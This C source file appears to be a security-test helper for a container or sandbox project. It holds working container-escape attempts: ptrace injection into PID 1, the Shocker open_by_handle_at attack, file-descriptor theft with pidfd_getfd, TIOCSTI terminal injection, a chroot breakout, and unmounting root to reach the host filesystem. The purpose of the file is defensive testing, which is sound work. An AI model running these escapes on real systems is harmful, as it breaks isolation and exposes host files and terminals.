/* escape: attacks a student could try from a shell inside a node, for the
 * security tests (tests/integration/test_security.sh). Built static, so it
 * runs in any node's root filesystem; copied into a node with `exec -i`.
 *
 *   escape pid1 sethostname NAME     make the node's PID 1 call these through
 *   escape pid1 mknod PATH           ptrace (x86_64): a PID 1 that keeps more
 *   escape pid1 handle-root DIR      than the node may is a way around it
 *   escape handle-root DIR           open_by_handle_at(inode 2 of DIR's fs) here
 *   escape syscall NAME              try one call a node is refused
 *   escape steal-fd FD SECONDS       for SECONDS, take descriptor FD of every
 *                                    process born in the node (pidfd_getfd),
 *                                    as an `exec` from the host starts: one
 *                                    of the host's is a way out
 *   escape tty                       what the node's /dev/tty and our stdio
 *                                    give: TIOCSTI on each
 *   escape chroot-out PATH           the classic way out of a chroot
 *                                    (CAP_SYS_CHROOT): chroot into a
 *                                    directory, climb out of it with "..",
 *                                    chroot there; then look for PATH
 *   escape beneath PATH              what is under the node's root
 *                                    (CAP_SYS_ADMIN): unmount it, re-enter
 *                                    the mount namespace at its root (setns);
 *                                    then look for PATH, and try to write
 *
 * chroot-out and beneath print "escaped: PATH" when PATH (a file only the
 * host has) is reachable after, and "contained: <what / holds>" when not.
 *
 * Each prints "ok ..." when the attack got through and "refused: <errno
 * name>" when it did not, and exits 0 either way: the test reads which. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *errno_name(int e)
{
	switch (e) {
	case EPERM:
		return "EPERM";
	case EACCES:
		return "EACCES";
	case ENOSYS:
		return "ENOSYS";
	case EINVAL:
		return "EINVAL";
	case ENOENT:
		return "ENOENT";
	case EROFS:
		return "EROFS";
	case ESTALE:
		return "ESTALE";
	case EOPNOTSUPP:
		return "EOPNOTSUPP";
	case EBADF:
		return "EBADF";
	default:
		return strerror(e);
	}
}

static int report(long rc, int e, const char *what)
{
	if (rc < 0)
		printf("refused: %s (%s)\n", errno_name(e), what);
	else
		printf("ok %s = %ld\n", what, rc);
	return 0;
}

/* A file handle for inode 2 (the root directory of ext2/3/4, xfs...),
 * generation 0: the Shocker attack's first guess. */
struct root_handle {
	unsigned int handle_bytes;
	int handle_type;
	uint32_t ino, gen;
};

static struct root_handle root_handle(void)
{
	return (struct root_handle){
		.handle_bytes = 8, .handle_type = 1 /* FILEID_INO32_GEN */, .ino = 2, .gen = 0
	};
}

#if defined(__x86_64__)
/* --- a system call made by another process, through ptrace -------------- */

struct tracee {
	pid_t pid;
	struct user_regs_struct saved;
	unsigned long syscall_insn; /* address of a `syscall` instruction */
	unsigned long scratch;      /* below its stack pointer and red zone */
};

static int poke(struct tracee *t, unsigned long addr, const void *data, size_t len)
{
	const unsigned char *p = data;

	for (size_t off = 0; off < len; off += sizeof(long)) {
		long word = 0;
		size_t n = len - off < sizeof(long) ? len - off : sizeof(long);

		if (n < sizeof(long)) {
			errno = 0;
			word = ptrace(PTRACE_PEEKDATA, t->pid, addr + off, NULL);
			if (errno)
				return -1;
		}
		memcpy(&word, p + off, n);
		if (ptrace(PTRACE_POKEDATA, t->pid, addr + off, (void *)word) < 0)
			return -1;
	}
	return 0;
}

static int attach(struct tracee *t, pid_t pid)
{
	int status;
	long insn;

	t->pid = pid;
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0 ||
	    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL) < 0)
		return -1;
	if (waitpid(pid, &status, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, NULL, &t->saved) < 0)
		return -1;
	/* Stopped in a blocking call (init waits on its signalfd): the
	 * instruction just before rip is that `syscall`. */
	t->syscall_insn = t->saved.rip - 2;
	errno = 0;
	insn = ptrace(PTRACE_PEEKTEXT, pid, t->syscall_insn, NULL);
	if (errno || (insn & 0xffff) != 0x050f) {
		errno = ENOEXEC;
		return -1;
	}
	t->scratch = (t->saved.rsp - 1024) & ~15UL;
	return 0;
}

/* Make the tracee run syscall nr with args; its result (a -errno on failure). */
static long remote_syscall(struct tracee *t, long nr, long a1, long a2, long a3, long a4)
{
	struct user_regs_struct r = t->saved;
	int status;

	r.orig_rax = (unsigned long)-1; /* no restart of the call it was in */
	r.rax = (unsigned long)nr;
	r.rdi = (unsigned long)a1;
	r.rsi = (unsigned long)a2;
	r.rdx = (unsigned long)a3;
	r.r10 = (unsigned long)a4;
	r.rip = t->syscall_insn;
	if (ptrace(PTRACE_SETREGS, t->pid, NULL, &r) < 0 ||
	    ptrace(PTRACE_SINGLESTEP, t->pid, NULL, NULL) < 0 ||
	    waitpid(t->pid, &status, __WALL) < 0 || ptrace(PTRACE_GETREGS, t->pid, NULL, &r) < 0)
		return -errno;
	return (long)r.rax;
}

static void detach(struct tracee *t)
{
	ptrace(PTRACE_SETREGS, t->pid, NULL, &t->saved);
	ptrace(PTRACE_DETACH, t->pid, NULL, NULL);
}

static int pid1(int argc, char **argv)
{
	struct tracee t;
	long rc = -1;
	int e = 0;

	if (argc < 4)
		return 2;
	if (attach(&t, 1) < 0)
		return report(-1, errno, "ptrace PID 1");
	if (!strcmp(argv[2], "sethostname")) {
		poke(&t, t.scratch, argv[3], strlen(argv[3]) + 1);
		rc = remote_syscall(&t, SYS_sethostname, (long)t.scratch, (long)strlen(argv[3]), 0,
				    0);
	} else if (!strcmp(argv[2], "mknod")) {
		poke(&t, t.scratch, argv[3], strlen(argv[3]) + 1);
		rc = remote_syscall(&t, SYS_mknodat, AT_FDCWD, (long)t.scratch, S_IFCHR | 0600,
				    (long)makedev(1, 3));
	} else if (!strcmp(argv[2], "handle-root")) {
		/* PID 1 opens DIR (on the host's root filesystem, e.g. a
		 * host-base node's /usr), then asks for inode 2 of that
		 * filesystem: the host's / when it succeeds. */
		struct root_handle h = root_handle();
		unsigned long hp = t.scratch + 512;

		poke(&t, t.scratch, argv[3], strlen(argv[3]) + 1);
		poke(&t, hp, &h, sizeof(h));
		long dir = remote_syscall(&t, SYS_openat, AT_FDCWD, (long)t.scratch,
					  O_RDONLY | O_DIRECTORY, 0);

		rc = dir;
		if (dir >= 0)
			rc = remote_syscall(&t, SYS_open_by_handle_at, dir, (long)hp,
					    O_RDONLY | O_DIRECTORY, 0);
		/* Leave PID 1 as it was (what it got, the test reads first). */
		if (dir >= 0)
			remote_syscall(&t, SYS_close, dir, 0, 0, 0);
	} else {
		detach(&t);
		return 2;
	}
	detach(&t);
	if (rc < 0 && rc > -4096) {
		e = (int)-rc;
		rc = -1;
	}
	return report(rc, e, argv[2]);
}
#else
static int pid1(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	printf("unsupported: ptrace injection is written for x86_64\n");
	return 0;
}
#endif

static int handle_root(const char *dir)
{
	struct root_handle h = root_handle();
	int fd = open(dir, O_RDONLY | O_DIRECTORY), root;

	if (fd < 0)
		return report(-1, errno, "open");
	root = (int)syscall(SYS_open_by_handle_at, fd, &h, O_RDONLY | O_DIRECTORY);
	return report(root, errno, "open_by_handle_at");
}

/* One call a node is refused by default, with harmless arguments: what a
 * refusal looks like (EPERM from the filter) differs from what the kernel
 * itself would answer to those arguments. */
static int try_syscall(const char *name)
{
	long rc;

	errno = 0;
	if (!strcmp(name, "keyctl"))
		rc = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
	else if (!strcmp(name, "unshare-user"))
		rc = unshare(CLONE_NEWUSER);
	else if (!strcmp(name, "clone-newuser"))
		rc = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
	else if (!strcmp(name, "clone3"))
		rc = syscall(SYS_clone3, NULL, 0);
	else if (!strcmp(name, "userfaultfd"))
		rc = syscall(SYS_userfaultfd, 0);
	else if (!strcmp(name, "io_uring_setup"))
		rc = syscall(SYS_io_uring_setup, 1, NULL);
	else if (!strcmp(name, "bpf"))
		rc = syscall(SYS_bpf, 0, NULL, 0);
	else if (!strcmp(name, "perf_event_open"))
		rc = syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0);
	else if (!strcmp(name, "clock_settime"))
		rc = syscall(SYS_clock_settime, CLOCK_REALTIME, NULL);
	else if (!strcmp(name, "reboot")) /* wrong magic: EINVAL if it got through */
		rc = syscall(SYS_reboot, 0, 0, 0, NULL);
	else if (!strcmp(name, "kexec_load"))
		rc = syscall(SYS_kexec_load, 0, 0, NULL, 0);
	else if (!strcmp(name, "init_module"))
		rc = syscall(SYS_init_module, NULL, 0, "");
	else if (!strcmp(name, "swapon"))
		rc = syscall(SYS_swapon, "/nonexistent", 0);
	else if (!strcmp(name, "acct"))
		rc = syscall(SYS_acct, NULL);
	else if (!strcmp(name, "sched-fifo")) /* a real-time priority: the CPU, from the host */
		rc = syscall(SYS_sched_setscheduler, 0, SCHED_FIFO,
			     &(struct sched_param){ .sched_priority = 1 });
	else if (!strcmp(name, "nice-20"))
		rc = setpriority(PRIO_PROCESS, 0, -20);
	else if (!strcmp(name, "mount"))
		rc = mount("none", "/mnt", "tmpfs", 0, NULL);
	else if (!strcmp(name, "setns"))
		rc = setns(-1, 0);
	else
		return 2;
	if (rc == 0 && !strcmp(name, "clone-newuser"))
		_exit(0); /* the child: it got through */
	if (rc > 0 && !strcmp(name, "clone-newuser"))
		waitpid((pid_t)rc, NULL, 0);
	return report(rc, errno, name);
}

static int last_pid(void)
{
	char b[32] = { 0 };
	int f = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);

	if (f < 0 || read(f, b, sizeof(b) - 1) < 0)
		b[0] = 0;
	if (f >= 0)
		close(f);
	return atoi(b);
}

/* Spins on the next PID the node's namespace hands out, and tries to take
 * descriptor fd of it the moment it exists. */
static int steal_fd(int fd, int seconds)
{
	time_t end = time(NULL) + seconds;
	long tries = 0;

	printf("watching\n");
	while (time(NULL) < end) {
		int pid = last_pid() + 1, pidfd, got;
		char link[64], target[512] = "";

		while ((pidfd = (int)syscall(SYS_pidfd_open, pid, 0)) < 0 && time(NULL) < end)
			if (++tries % 4096 == 0)
				pid = last_pid() + 1;
		if (pidfd < 0)
			break;
		got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
		close(pidfd);
		if (got < 0)
			continue;
		snprintf(link, sizeof(link), "/proc/self/fd/%d", got);
		if (readlink(link, target, sizeof(target) - 1) < 0)
			strcpy(target, "?");
		printf("ok stole descriptor %d of pid %d: %s\n", fd, pid, target);
		return 0;
	}
	printf("refused: no descriptor %d taken in %d s\n", fd, seconds);
	return 0;
}

/* TIOCSTI (a byte typed into the terminal's input) on stdin, stdout,
 * stderr and the node's /dev/tty, each a way into the caller's shell when
 * it is the caller's terminal. */
static int tty_attacks(void)
{
	char c = ' ';
	int tty = open("/dev/tty", O_RDWR | O_NOCTTY);

	for (int fd = 0; fd < 3; fd++)
		if (isatty(fd))
			printf("%s fd %d is a terminal\n",
			       ioctl(fd, TIOCSTI, &c) == 0 ? "ok TIOCSTI on" : "refused TIOCSTI on",
			       fd);
	if (tty >= 0)
		printf("%s /dev/tty\n",
		       ioctl(tty, TIOCSTI, &c) == 0 ? "ok TIOCSTI on" : "refused TIOCSTI on");
	else
		printf("refused: /dev/tty: %s\n", errno_name(errno));
	return 0;
}

/* How many entries a directory holds (-1: it cannot be read). */
static int count_entries(const char *path)
{
	DIR *d = opendir(path);
	struct dirent *de;
	int count = 0;

	if (!d)
		return -1;
	while ((de = readdir(d)))
		count += strcmp(de->d_name, ".") && strcmp(de->d_name, "..");
	closedir(d);
	return count;
}

/* After an attack on the root: is `host_path` reachable, and what does /
 * hold now? Its names in the directory's order, each directory's with how
 * many entries it holds: "contained: host(0) ...". */
static int look_around(const char *host_path)
{
	char path[300];
	struct dirent *de;
	DIR *d;

	if (access(host_path, F_OK) == 0) {
		printf("escaped: %s\n", host_path);
		return 0;
	}
	printf("contained:");
	d = opendir("/");
	while (d && (de = readdir(d))) {
		if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, ".."))
			continue;
		printf(" %s", de->d_name);
		snprintf(path, sizeof(path), "/%s", de->d_name);
		if (de->d_type == DT_DIR)
			printf("(%d)", count_entries(path));
	}
	if (d)
		closedir(d);
	printf("\n");
	return 0;
}

static int chroot_out(const char *host_path)
{
	mkdir("/tmp/.chroot-out", 0700);
	if (chroot("/tmp/.chroot-out") < 0)
		return report(-1, errno, "chroot");
	/* Our cwd is outside the new root: ".." is not stopped by it. */
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return report(-1, errno, "chdir ..");
	if (chroot(".") < 0)
		return report(-1, errno, "chroot .");
	return look_around(host_path);
}

static int beneath(const char *host_path)
{
	int self = open("/proc/self/ns/mnt", O_RDONLY);
	int fd;

	if (self < 0)
		return report(-1, errno, "open /proc/self/ns/mnt");
	if (umount2("/", MNT_DETACH) < 0)
		return report(-1, errno, "umount /");
	/* Our root and cwd become the namespace's root, whatever is on it. */
	if (setns(self, CLONE_NEWNS) < 0)
		return report(-1, errno, "setns into our own mount namespace");
	look_around(host_path);
	fd = open("/written-from-a-node", O_WRONLY | O_CREAT, 0600);
	if (fd < 0 && (errno == EROFS || errno == ENOSPC || errno == EACCES) &&
	    mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) == 0)
		fd = open("/written-from-a-node", O_WRONLY | O_CREAT, 0600);
	return report(fd, errno, "create a file there, remounted writable if need be");
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc >= 4 && !strcmp(argv[1], "pid1"))
		return pid1(argc, argv);
	if (argc == 3 && !strcmp(argv[1], "handle-root"))
		return handle_root(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "syscall"))
		return try_syscall(argv[2]);
	if (argc == 4 && !strcmp(argv[1], "steal-fd"))
		return steal_fd(atoi(argv[2]), atoi(argv[3]));
	if (argc == 2 && !strcmp(argv[1], "tty"))
		return tty_attacks();
	if (argc == 3 && !strcmp(argv[1], "chroot-out"))
		return chroot_out(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "beneath"))
		return beneath(argv[2]);
	fprintf(stderr,
		"usage: escape pid1 sethostname|mknod|handle-root ARG | handle-root DIR | syscall NAME | steal-fd FD SECONDS | tty | chroot-out PATH | beneath PATH\n");
	return 2;
}
